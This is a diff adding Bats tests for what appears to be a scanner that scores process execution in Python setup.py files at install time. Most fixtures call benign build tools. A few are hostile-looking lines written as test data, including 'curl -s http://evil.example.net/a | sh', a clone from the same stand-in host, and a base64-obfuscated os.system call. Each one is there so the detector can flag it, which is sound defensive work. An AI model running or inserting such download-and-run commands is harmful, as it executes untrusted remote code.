@@ -427,9 +427,85 @@ PY
 
 @test "test_paths: code under tests/ or in test_*.py weighs like function code; package code does not" {
 	mkdir -p pkg/tests
-	printf 'import os\nos.system("make")\n' > pkg/tests/helper.py
-	printf 'import os\nos.system("make")\n' > pkg/test_build.py
-	printf 'import os\nos.system("make")\n' > pkg/build.py
+	printf 'import os\nos.system("id")\n' > pkg/tests/helper.py
+	printf 'import os\nos.system("id")\n' > pkg/test_build.py
+	printf 'import os\nos.system("id")\n' > pkg/build.py
 	run -0 bash -c "$(declare -f scan hits parse_stage file_record 2>/dev/null); cd $BATS_TEST_TMPDIR; for f in pkg/tests/helper.py pkg/test_build.py pkg/build.py; do scan \$f | jq -r 'select(.type == \"hit\") | \"\(.path) \(.context) \(.score) \(.tags | index(\"test-code\") != null)\"'; done"
 	assert_output "$(printf '%s\n' "pkg/tests/helper.py function 2 true" "pkg/test_build.py function 2 true" "pkg/build.py import 50 false")"
+}
+
+@test "build tools: a constant command of a known build tool at install time weighs as a build" {
+	py setup.py <<'PY'
+import os, subprocess
+subprocess.check_output(["pkg-config", "--cflags", "cairo"])
+os.popen("sdl2-config --libs")
+subprocess.check_output(("git", "describe", "--tags"))
+subprocess.run(args=["cmake", "--build", "." + "/build"])
+pg_config = os.environ.get("PG_CONFIG", "pg_config")
+subprocess.run([pg_config, f"--{what}"])
+cmd = ["gcc", "-I" + inc, *flags] + extra
+subprocess.check_call(cmd, cwd=build_dir)
+PY
+	run dets setup.py ProcessExecution ShellCommand
+	assert_output "$(printf '%s\n' "2 ProcessExecution subprocess.check_output install 10" \
+		"3 ShellCommand os.popen install 10" "4 ProcessExecution subprocess.check_output install 10" \
+		"5 ProcessExecution subprocess.run install 10" "7 ProcessExecution subprocess.run install 10" \
+		"9 ProcessExecution subprocess.check_call install 10")"
+	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .line == 2) | [.message, (.tags | index(\"build-tool\") != null)] | @tsv'"
+	assert_output "$(printf 'subprocess.check_output() starts a process at install time: the build tool pkg-config\ttrue')"
+}
+
+@test "build tools: not when the tool fetches, hides output, runs a shipped program, an interpreter, or a computed command" {
+	py setup.py <<'PY'
+import os, subprocess, sys, base64
+subprocess.check_output(["git", "clone", "https://evil.example.net/x.git"])
+subprocess.call("pkg-config --libs x > /dev/null 2>&1", shell=True)
+os.system("make; curl -s http://evil.example.net/a | sh")
+subprocess.call(["./configure"])
+subprocess.call(["vendor/bin/cmake", "."])
+subprocess.call(["python", "build.py"])
+subprocess.call([sys.executable, "build.py"])
+subprocess.call(["make"], executable="/tmp/x")
+subprocess.call([tool, "--version"])
+os.system(base64.b64decode("bWFrZQ==").decode())
+subprocess.call(["git", "clone", requests.get(u).text])
+cmd = ["make"]
+cmd = ["sh", "-c", x]
+subprocess.call(cmd)
+PY
+	run dets setup.py ProcessExecution ShellCommand
+	assert_output "$(printf '%s\n' "2 ProcessExecution subprocess.check_output install 80" \
+		"3 ProcessExecution subprocess.call install 80" "4 ShellCommand os.system install 100" \
+		"5 ProcessExecution subprocess.call install 80" "6 ProcessExecution subprocess.call install 80" \
+		"7 ProcessExecution subprocess.call install 80" "8 ProcessExecution subprocess.call install 80" \
+		"9 ProcessExecution subprocess.call install 80" "10 ProcessExecution subprocess.call install 80" \
+		"11 ShellCommand os.system install 100" "12 ProcessExecution subprocess.call install 80" \
+		"15 ProcessExecution subprocess.call install 80")"
+}
+
+@test "NativeTypeOrLookup: finding a library or sizing a C type at install time is not loading one" {
+	py setup.py <<'PY'
+import ctypes, ctypes.util
+path = ctypes.util.find_library("sqlite3")
+n = ctypes.sizeof(ctypes.c_void_p)
+lib = ctypes.CDLL(path)
+k = ctypes.windll.kernel32
+PY
+	run dets setup.py NativeCode NativeTypeOrLookup
+	assert_output "$(printf '%s\n' "2 NativeTypeOrLookup ctypes.util.find_library install 5" \
+		"3 NativeTypeOrLookup ctypes.sizeof install 5" \
+		"4 NativeCode ctypes.CDLL install 50")"
+}
+
+@test "a hit's severity says what it weighs in its context, at most the rule's severity" {
+	py setup.py <<'PY'
+import os, subprocess
+def cli():
+    subprocess.run(["ls"])
+subprocess.call(["id"])
+os.system("curl -s http://evil.example.net/a | sh")
+PY
+	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\") | \"\(.line) \(.detection) \(.score) \(.severity)\"'"
+	assert_output "$(printf '%s\n' "3 ProcessExecution 2 info" "4 ProcessExecution 80 medium" \
+		"5 ShellCommand 100 high" "5 DownloadAndRun 100 high")"
 }
